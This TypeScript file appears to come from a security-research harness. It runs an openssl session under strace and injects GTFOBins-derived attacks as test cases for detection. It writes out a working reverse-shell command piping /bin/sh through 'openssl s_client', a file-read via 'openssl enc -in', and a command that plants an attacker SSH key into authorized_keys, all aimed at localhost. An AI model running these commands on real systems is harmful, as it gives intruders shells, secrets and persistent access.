// The openssl scenario: a seeded openssl session (opensslPlan.ts) in a driver shell under strace, with a TLS server
// (s_server) on 127.0.0.1 that the session starts, talks to and stops. Attacks are GTFOBins' openssl entries, run
// in the middle of the session: `reverse-shell` (a shell whose input and output go through `openssl s_client` to
// the attacker's TLS listener, which the build opens itself), `file-read` (`openssl enc -in FILE` prints any file
// openssl can read; data-only) and `file-write` (`openssl enc -out FILE` writes attacker data, here an SSH key into
// authorized_keys; data-only).

import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { HomeostatError } from "../errors.js";
import { leakProof, plantSecret, SECRET_MARKER, shellProof } from "./attackProof.js";
import { planOpensslSession } from "./opensslPlan.js";
import { freePort } from "../demo/freePort.js";
import { openShellListener } from "./reverseShell.js";
import { recordShellSession, type ShellAction } from "./shellRecording.js";
import type { ShellSession } from "./shellSession.js";
import { cleanEnv, missingTools, toolPath, toolVersion } from "./tools.js";
import type { AttackReport, RecordedRun, RecordingPlan, RecordingTarget, Scenario } from "./types.js";

export const OPENSSL_ATTACKS = ["reverse-shell", "file-read", "file-write"] as const;

const ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHomeostatScenarioAttackerKey attacker@evil";

/** The attacker's TLS key and certificate (made once, untraced, with openssl itself). */
function attackerTls(dir: string): { key: string; cert: string } {
  mkdirSync(dir, { recursive: true });
  const key = path.join(dir, "attacker-key.pem");
  const cert = path.join(dir, "attacker-cert.pem");
  const openssl = toolPath("openssl")!;
  execFileSync(openssl, ["genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", key], {
    stdio: "ignore",
  });
  execFileSync(openssl, ["req", "-new", "-x509", "-key", key, "-subj", "/CN=attacker", "-days", "2", "-out", cert], {
    stdio: "ignore",
  });
  return { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") };
}

export function opensslAttackCommand(kind: string, work: string, port: number, secret: string): string {
  switch (kind) {
    case "reverse-shell":
      return `mkfifo ${work}/s; /bin/sh -i < ${work}/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${port} > ${work}/s; rm ${work}/s`;
    case "file-read":
      return `openssl enc -in ${secret}`;
    case "file-write":
      return `mkdir -p ${work}/home/.ssh && echo '${ATTACKER_KEY}' | openssl enc -out ${work}/home/.ssh/authorized_keys`;
    default:
      throw new HomeostatError("E_USAGE", `unknown openssl attack ${kind}`);
  }
}

async function opensslAttack(shell: ShellSession, kind: string, work: string, tls: { key: string; cert: string }) {
  const secret = plantSecret(work);
  const listener = kind === "reverse-shell" ? await openShellListener({ tls, hangUp: true }) : undefined;
  try {
    const command = opensslAttackCommand(kind, work, listener?.port ?? 0, secret);
    const time = Date.now() / 1000;
    const r = await shell.run(command);
    const report = (evidence: string, dataOnly: boolean): AttackReport => ({ kind, time, command, evidence, dataOnly });
    if (listener !== undefined) return report(shellProof(await listener.transcript, kind), false);
    if (kind === "file-read") return report(leakProof(r.output, SECRET_MARKER, kind), true);
    const keys = path.join(work, "home/.ssh/authorized_keys");
    if (!existsSync(keys) || !readFileSync(keys, "utf8").includes(ATTACKER_KEY)) {
      throw new HomeostatError("E_IO", `the file-write attack wrote no key into ${keys}`);
    }
    return report("openssl wrote the attacker's key into authorized_keys", true);
  } finally {
    listener?.close();
  }
}

async function recordOpenssl(
  plan: RecordingPlan<ShellAction>,
  target: RecordingTarget,
  tls: { key: string; cert: string },
): Promise<RecordedRun> {
  const port = await freePort();
  const cwd = path.join(target.workDir, "pki");
  mkdirSync(cwd, { recursive: true });
  return recordShellSession(plan, {
    target,
    cwd,
    env: cleanEnv(path.join(target.workDir, "home"), { RANDFILE: path.join(cwd, ".rnd") }),
    port,
    substitute: (c) => c.replaceAll("{PORT}", String(port)),
    attack: (shell, kind) => opensslAttack(shell, kind, target.workDir, tls),
  });
}

export const opensslScenario: Scenario<ShellAction> = {
  name: "openssl",
  attacks: OPENSSL_ATTACKS,
  dataOnlyAttacks: ["file-read", "file-write"],
  defaultActions: 30,
  unavailable: () => missingTools(["openssl"]),
  image: () => `openssl/${toolVersion("openssl", ["version"], /OpenSSL (\S+)/)}`,
  plan: planOpensslSession,
  describe: (a) => a.command.slice(0, 100),
  async prepare(workDir) {
    const tls = attackerTls(path.join(workDir, "attacker"));
    return { record: (plan, target) => recordOpenssl(plan, target, tls), close: async () => {} };
  },
};
